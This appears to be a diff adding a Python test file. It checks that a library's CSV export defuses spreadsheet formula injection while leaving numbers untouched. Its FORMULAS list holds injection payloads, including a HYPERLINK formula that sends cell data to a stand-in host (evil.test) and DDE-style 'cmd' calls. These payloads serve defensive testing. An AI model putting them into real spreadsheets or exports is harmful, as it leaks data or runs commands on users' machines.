@@ -1,0 +1,65 @@
+"""Cells of CSV that spreadsheets would take for formulas are text, and numbers stay numbers."""
+
+import csv
+import io
+import re
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from output_pages import content_of
+
+from chaffinch.errors import OptionError
+from chaffinch.output.csv_text import as_csv
+from chaffinch.output.table import tables
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.test/?"&A1,"x")', "=1+1", "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C x'!A0", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1", "\tx", "\rx", "-A1",
+    "+A1", "-(1)", "＝1+1", "＋A1", "－A1", "＠SUM(1)", "-1-1", "+1*2", "=-3", "\x00=1",
+    "\ufeff=1", "- item", "-1 =A1",
+]  # fmt: skip
+OTHERS = [
+    "-3.5", "+3", "-3,5", "-1,234.56", "-1 234", "-.5", "-5 %", "-5%", "+49 30 1234", "-1e-5",
+    "-7€",    "-", "--", "+", "- - -", "–", "a=1", "1-2", "'=1", "", "(=1)", "−3", "#x", "x@y.org",
+]  # fmt: skip
+
+
+def read(text):
+    return list(csv.reader(io.StringIO(text, newline="")))
+
+
+@pytest.mark.parametrize("cell", FORMULAS)
+def test_formulas_are_defused(cell):
+    assert read(as_csv([["x", cell]])) == [["x", f"'{cell}"]]
+    assert read(as_csv([["x", cell]], defused=False)) == [["x", cell]]
+
+
+@pytest.mark.parametrize("cell", OTHERS)
+def test_all_else_stays(cell):
+    assert read(as_csv([["x", cell]])) == [["x", cell]]
+
+
+@given(
+    st.lists(st.sampled_from(["=", "+", "-", "@", "\t", "\r", " ", "1", "A", ".", "(", "|", "'"]))
+)
+def test_no_formula_is_left(parts):
+    cell = "".join(parts)
+    [[written]] = read(as_csv([[cell]])) or [[""]]
+    assert written in (cell, f"'{cell}")
+    if re.match(r"[\s=+@-]*[=+@-]", written):
+        assert not re.search(r"[A(|@]", written), "a formula needs a name, a call or two operands"
+
+
+def test_values_that_are_no_text_stay():
+    assert as_csv([[-3, 2.5, True]]) == "-3,2.5,True\n"
+
+
+def test_tables_are_defused():
+    page = "<table><tr><th>a<th>b<tr><td>=1+1<td>-3.5</table>"
+    [table] = tables(content_of(page))
+    assert table.csv() == "a,b\n'=1+1,-3.5\n"
+    assert table.csv(defused=False) == "a,b\n=1+1,-3.5\n"
+    assert table.records() == [{"a": "=1+1", "b": "-3.5"}]
+    with pytest.raises(OptionError):
+        table.csv(defused=None)
